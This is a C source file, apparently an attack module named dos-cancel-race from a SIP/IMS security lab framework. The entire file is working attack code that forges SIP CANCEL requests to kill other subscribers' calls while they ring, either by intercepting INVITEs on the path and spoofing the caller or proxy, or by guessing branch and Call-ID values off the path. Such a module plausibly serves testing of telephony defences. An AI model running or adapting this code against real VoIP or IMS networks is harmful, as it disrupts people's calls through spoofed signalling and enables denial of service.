/* dos-cancel-race - cancels other people's calls before they are answered. */
#include "lab/attacker/strike.h"
#include "lab/base/address.h"
#include "lab/base/slice.h"
#include "lab/base/text.h"
#include "lab/sip/request.h"
#include "lab/stack/counted.h"
#include "lab/subscribers/provision.h"

typedef struct {
  RdStrikeAim aim;
} Config;

enum { VICTIM_SERVER = 0, VICTIM_CALLEE };
static const char *const victims[] = {"server", "callee", NULL};

static const RdParam params[] = {
    RD_CHOICE(Config, "victim", aim.victim, "server", victims,
              "Who gets the CANCEL: the caller's proxy, in the caller's name; or the callee's "
              "phone, in its proxy's name (by a line alone)."),
    RD_STRIKE_ROWS(Config, "300"), RD_PARAM_END};

/* A caller's own INVITE at its door, or one that has come to its callee's. */
static bool is_here(int victim, const RdMessage *m) {
  return victim == VICTIM_SERVER ? rd_hop_is_clients(m->sip)
                                 : rd_uri_is_at(m->sip->uri, rd_hop_target(m));
}

static void intercept(void *self, const RdMessage *m, RdVerdict *verdict) {
  RdStrikes *s = self;
  const RdStrikeAim *aim = rd_strikes_aim(s);
  char buffer[RD_STRIKE_BYTES];
  (void)verdict;
  if (aim->knows != RD_KNOWS_LINE || !m->sip || !m->sip->is_request ||
      m->sip->method != RD_SIP_INVITE || m->sip->to_tag.at || !is_here(aim->victim, m) ||
      !rd_strike_wanted(s, m))
    return;
  const RdStrike strike = {
      .source = *rd_hop_source(m),
      .target = *rd_hop_target(m),
      .bytes = buffer,
      .len = rd_sip_follow_up(m->sip, "CANCEL", m->sip->to, buffer, sizeof buffer)};
  rd_strike(s, m, &strike);
}

/* Off the path: a transaction is known by branch and sent-by alone (RFC 3261 s17.2.3), and both are
 * guessed. */
static void guess(RdStrikes *s, uint64_t n, char buffer[RD_STRIKE_BYTES], RdStrike *ret) {
  char call[17], branch[RD_SIP_BRANCH];
  const char *uri = "sip:" RD_IMS_DOMAIN;
  RdStrikeTarget t;
  rd_strike_target(s, n, &t);
  const uint64_t counted = rd_counted_call(t.phone, t.attempt, 0);
  RdText text = rd_text(call, sizeof call);
  rd_text_hex(&text, counted, 16);
  rd_sip_branch(rd_counted_branch(counted, RD_SIP_INVITE), branch);
  const RdSipRequest r = {.method = "CANCEL",
                          .uri = rd_slice(uri),
                          .from_uri = rd_slice(uri),
                          .from_tag = rd_slice(call),
                          .to_uri = rd_slice(uri),
                          .call_id = rd_slice(call),
                          .branch = rd_slice(branch),
                          .cseq = 1,
                          .local = t.address};
  *ret = (RdStrike){t.address, t.server, buffer, rd_sip_write(&r, buffer, RD_STRIKE_BYTES)};
}

static void *open_race(RdHost *host, const void *config, const RdActorSetup *setup) {
  return rd_strikes_new(host, setup, config, guess);
}

RD_PART(RD_ATTACK, "dos-cancel-race",
        "Cancels other people's calls while they ring, by a CANCEL with their INVITE's branch.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_race, .intercept = intercept, RD_STRIKE_OPS),
        .interface = RD_IF_GM, .family = "dos");
